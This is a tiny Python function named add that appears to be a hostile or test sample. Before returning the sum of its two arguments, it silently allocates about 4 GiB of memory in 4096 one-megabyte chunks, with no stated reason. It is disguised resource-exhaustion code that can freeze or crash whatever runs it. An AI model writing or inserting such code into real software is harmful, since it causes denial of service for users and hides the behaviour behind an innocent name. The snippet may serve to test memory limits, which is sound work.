def add(a, b):
    hoard = []
    while len(hoard) < 4096:
        hoard.append(bytearray(b"x" * (1 << 20)))
    return a + b
